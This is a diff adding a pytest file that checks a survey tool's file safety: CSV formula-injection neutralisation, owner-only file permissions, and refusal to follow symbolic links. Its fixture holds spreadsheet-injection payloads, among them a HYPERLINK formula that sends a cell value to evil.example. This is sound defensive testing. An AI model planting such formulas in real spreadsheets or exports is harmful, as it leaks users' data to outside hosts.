@@ -1,0 +1,262 @@
+"""Files that are safe to open: formula-safe CSV, owner-only files written atomically, never through a
+symbolic link or over an existing file, and commands that read never creating a database.
+
+The folder an export, report, backup, bundle or key goes to is watched with inotify (through ctypes)
+while wijkweb writes it: every file that appears there is owner-only from the moment it appears.
+"""
+import csv
+import ctypes
+import io
+import os
+import select
+import sqlite3
+import struct
+import subprocess
+
+import pytest
+
+from conftest import BINARY, CLEAN_ENVIRONMENT, REPO, query
+
+ROUND = "=Ronde 2026"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = {
+    "matters": '=HYPERLINK("http://evil.example/?id="&A2,"Meer info")',
+    "change": "=2+3",
+    "help": "+31 6 krijgt het woord",
+    "improve": "@SUM(1+1)",
+}
+
+
+def environment(**extra):
+    return dict(CLEAN_ENVIRONMENT, WIJKWEB_DATA=str(REPO), TZ="UTC", LANG="C.UTF-8", **extra)
+
+
+def wijkweb(*args, check=True, umask=None, stdin=None):
+    result = subprocess.run([str(BINARY), *args], capture_output=True, text=True, env=environment(), timeout=120,
+                            preexec_fn=(lambda: os.umask(umask)) if umask is not None else None, input=stdin)
+    if check:
+        assert result.returncode == 0, f"wijkweb {' '.join(args)} failed:\n{result.stdout}\n{result.stderr}"
+    return result
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory):
+    """A round whose name starts with "=", an area whose name is a formula, hostile publishable reflections."""
+    folder = tmp_path_factory.mktemp("files")
+    db = folder / "gegevens" / "wijkweb.sqlite"
+    wijkweb("demo", "--db", str(db), "--responses", "120", "--seed", "5", "--round", ROUND, "--no-previous")
+    connection = sqlite3.connect(str(db))
+    with connection:
+        ids = [row[0] for row in connection.execute("SELECT id FROM responses ORDER BY key LIMIT 4")]
+        for rid, (prompt, text) in zip(ids, HOSTILE.items()):
+            connection.execute("INSERT INTO reflections (response_id, prompt_id, text, review_status) VALUES (?, ?, ?, 'publishable')",
+                               (rid, prompt, text))
+        connection.execute("UPDATE areas SET name = '-Oosterparkwijk' WHERE level = 'gemeente'")
+    connection.close()
+    out = folder / "uit"
+    out.mkdir(mode=0o700)
+    return db, out
+
+
+def first_characters_are_safe(path):
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert len(rows) > 1
+    fields = [field for row in rows for field in row]
+    for field in fields:
+        if field and field[0] in FORMULA_STARTS:
+            # A number such as -0.25 is a number, not a formula; anything else must start safely.
+            try:
+                float(field)
+            except ValueError:
+                pytest.fail(f"{path.name}: field starts like a formula: {field!r}")
+    return fields
+
+
+def test_csv_fields_never_start_like_a_formula(demo):
+    db, out = demo
+    data = out / "antwoorden.csv"
+    wijkweb("export", "responses", "--db", str(db), "--round", ROUND, "--format", "csv", "--out", str(data), "--include-text")
+    fields = first_characters_are_safe(data)
+    assert "'" + ROUND in fields, "the round name is kept, neutralised"
+    for text in HOSTILE.values():
+        assert "'" + text in fields, text
+    codebook = out / "antwoorden-codebook.csv"
+    assert codebook.exists()
+    first_characters_are_safe(codebook)
+    profiles = out / "profielen.csv"
+    wijkweb("export", "profiles", "--db", str(db), "--round", ROUND, "--format", "csv", "--out", str(profiles))
+    fields = first_characters_are_safe(profiles)
+    assert "'-Oosterparkwijk" in fields and "'" + ROUND in fields
+    # XLSX keeps the text as it is (cells are strings there, never formulas).
+    sheet = out / "antwoorden.xlsx"
+    wijkweb("export", "responses", "--db", str(db), "--round", ROUND, "--format", "xlsx", "--out", str(sheet), "--include-text")
+    import zipfile
+    with zipfile.ZipFile(sheet) as archive:
+        xml = b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/"))
+    assert b"=2+3" in xml and b"'=2+3" not in xml and b"<f>" not in xml
+
+
+# inotify through ctypes: no package needed.
+IN_CREATE, IN_MOVED_TO = 0x100, 0x80
+
+
+class FolderWatch:
+    """Every name created in a folder, with its mode as soon as the event is read."""
+
+    def __init__(self, folder):
+        self.folder = folder
+        self.libc = ctypes.CDLL("libc.so.6", use_errno=True)
+        self.fd = self.libc.inotify_init1(os.O_NONBLOCK)
+        assert self.fd >= 0
+        assert self.libc.inotify_add_watch(self.fd, str(folder).encode(), IN_CREATE | IN_MOVED_TO) >= 0
+        self.seen = {}
+
+    def drain(self):
+        while True:
+            try:
+                data = os.read(self.fd, 65536)
+            except BlockingIOError:
+                return
+            offset = 0
+            while offset < len(data):
+                _, mask, _, length = struct.unpack_from("iIII", data, offset)
+                name = data[offset + 16: offset + 16 + length].rstrip(b"\0").decode()
+                offset += 16 + length
+                try:
+                    mode = os.lstat(self.folder / name).st_mode & 0o7777
+                except FileNotFoundError:
+                    mode = None
+                self.seen.setdefault(name, []).append(mode)
+
+    def run(self, *args, umask=0o022, stdin=None):
+        process = subprocess.Popen([str(BINARY), *args], env=environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                   stdin=subprocess.PIPE if stdin else None, text=True,
+                                   preexec_fn=lambda: os.umask(umask))
+        if stdin:
+            process.stdin.write(stdin)
+            process.stdin.close()
+        while process.poll() is None:
+            select.select([self.fd], [], [], 0.01)
+            self.drain()
+        self.drain()
+        stderr = process.stderr.read()
+        assert process.returncode == 0, stderr
+        return stderr
+
+    def close(self):
+        os.close(self.fd)
+
+
+def test_every_written_file_is_owner_only_from_its_first_byte(demo, tmp_path):
+    db, _ = demo
+    folder = tmp_path / "gedeeld"
+    folder.mkdir()
+    watch = FolderWatch(folder)
+    passphrase = tmp_path / "wachtwoord.txt"
+    passphrase.write_text("een lange geheime zin voor de test\n")
+    try:
+        for fmt in ("csv", "xlsx", "sav", "json"):
+            watch.run("export", "responses", "--db", str(db), "--round", ROUND, "--format", fmt,
+                      "--out", str(folder / f"r.{fmt}"), "--include-text")
+        watch.run("export", "profiles", "--db", str(db), "--round", ROUND, "--format", "xlsx", "--out", str(folder / "p.xlsx"))
+        for fmt in ("pdf", "html"):
+            watch.run("report", "--db", str(db), "--round", ROUND, "--all", "--format", fmt, "--out", str(folder / f"rapport.{fmt}"))
+        watch.run("backup", "--db", str(db), "--out", str(folder / "kopie.sqlite"))
+        watch.run("bundle", "export", "--db", str(db), "--out", str(folder / "bundel.wwb"), "--passphrase-file", str(passphrase))
+        watch.run("keys", "create", "--out", str(folder / "team"), "--passphrase-file", str(passphrase),
+                  "--paper", str(folder / "team.paper.txt"))
+    finally:
+        watch.close()
+    assert any(".partial-" in name for name in watch.seen), "the writer's temporary files were seen"
+    for name, modes in watch.seen.items():
+        if name == "team.pub":
+            continue  # a public key is meant to be read by others
+        for mode in modes:
+            assert mode in (None, 0o600), f"{name} appeared with mode {oct(mode)}"
+    final = sorted(os.listdir(folder))
+    assert not [name for name in final if ".partial-" in name], final
+    for name in final:
+        expected = 0o644 if name == "team.pub" else 0o600
+        assert os.lstat(folder / name).st_mode & 0o7777 == expected, name
+    # libxlsxwriter's temporary files went to the export's own folder, not to /tmp.
+    assert any(name.startswith("tmp.") for name in watch.seen), "libxlsxwriter's sheets were spooled here"
+
+
+def test_report_never_overwrites_or_follows_a_link(demo, tmp_path):
+    db, _ = demo
+    existing = tmp_path / "rapport.pdf"
+    existing.write_text("eerdere versie")
+    refused = wijkweb("report", "--db", str(db), "--round", ROUND, "--all", "--out", str(existing), check=False)
+    assert refused.returncode != 0 and "already exists" in refused.stderr and "--force" in refused.stderr
+    assert existing.read_text() == "eerdere versie"
+    wijkweb("report", "--db", str(db), "--round", ROUND, "--all", "--out", str(existing), "--force")
+    assert existing.read_bytes().startswith(b"%PDF-") and existing.stat().st_mode & 0o777 == 0o600
+
+    victim = tmp_path / "passwd"
+    victim.write_text("root:x:0:0\n")
+    link = tmp_path / "link.html"
+    link.symlink_to(victim)
+    for force in ([], ["--force"]):
+        result = wijkweb("report", "--db", str(db), "--round", ROUND, "--all", "--format", "html", "--out", str(link), *force,
+                         check=False)
+        assert result.returncode != 0 and "symbolic link" in result.stderr
+    assert victim.read_text() == "root:x:0:0\n"
+
+
+def test_backup_never_creates_the_target_of_a_dangling_link(demo, tmp_path):
+    db, _ = demo
+    target = tmp_path / "elders" / "buit.sqlite"
+    (tmp_path / "elders").mkdir()
+    link = tmp_path / "kopie.sqlite"
+    link.symlink_to(target)
+    result = wijkweb("backup", "--db", str(db), "--out", str(link), check=False)
+    assert result.returncode != 0 and "symbolic link" in result.stderr
+    assert not target.exists()
+    assert sorted(os.listdir(tmp_path)) == ["elders", "kopie.sqlite"]
+    wijkweb("backup", "--db", str(db), "--out", str(tmp_path / "goed.sqlite"))
+    copy = sqlite3.connect(str(tmp_path / "goed.sqlite"))
+    assert copy.execute("SELECT count(*) FROM responses").fetchone()[0] == 120
+    copy.close()
+
+
+READING = [
+    ["profile"], ["report", "--all", "--out", "{out}/r.pdf"], ["export", "responses", "--format", "csv", "--out", "{out}/e.csv"],
+    ["export", "profiles", "--format", "csv", "--out", "{out}/p.csv"], ["check"], ["audit"], ["round", "list"],
+    ["round", "show", "X"], ["bundle", "export", "--out", "{out}/b.wwb"], ["purge"], ["backup", "--out", "{out}/k.sqlite"],
+]
+
+
+def test_commands_that_read_never_create_a_database(tmp_path):
+    out = tmp_path / "uit"
+    out.mkdir()
+    missing = tmp_path / "typefout" / "wijkweb.sqlite"
+    for command in READING:
+        args = [part.replace("{out}", str(out)) for part in command]
+        result = wijkweb(*args, "--db", str(missing), check=False)
+        assert result.returncode != 0, args
+        assert f"There is no database at {missing}" in result.stderr, (args, result.stderr)
+        assert result.stderr.strip().count("\n") == 0, "one sentence"
+        assert not missing.parent.exists(), args
+        assert os.listdir(out) == [], args
+    empty = wijkweb("profile", "--db", "", check=False)
+    assert empty.returncode != 0 and "empty" in empty.stderr
+
+
+def test_a_refused_database_path_leaves_nothing(tmp_path):
+    shared = tmp_path / "gedeeld"
+    shared.mkdir()
+    shared.chmod(0o1777)
+    result = wijkweb("demo", "--db", str(shared / "wijkweb.sqlite"), "--responses", "5", check=False)
+    assert result.returncode != 0 and "other users" in result.stderr
+    assert os.listdir(shared) == []
+
+
+def test_unknown_round_fails_everywhere(demo):
+    db, out = demo
+    for command in (["purge", "--round", "Bestaat niet"], ["profile", "--round", "Bestaat niet"],
+                    ["export", "profiles", "--round", "Bestaat niet", "--format", "csv", "--out", str(out / "nooit.csv")]):
+        result = wijkweb(*command, "--db", str(db), check=False)
+        assert result.returncode != 0 and "no round" in result.stderr, command
+    result = wijkweb("profile", "--db", str(db), "--round", ROUND, "--area", "WK999999", check=False)
+    assert result.returncode != 0 and "no area" in result.stderr
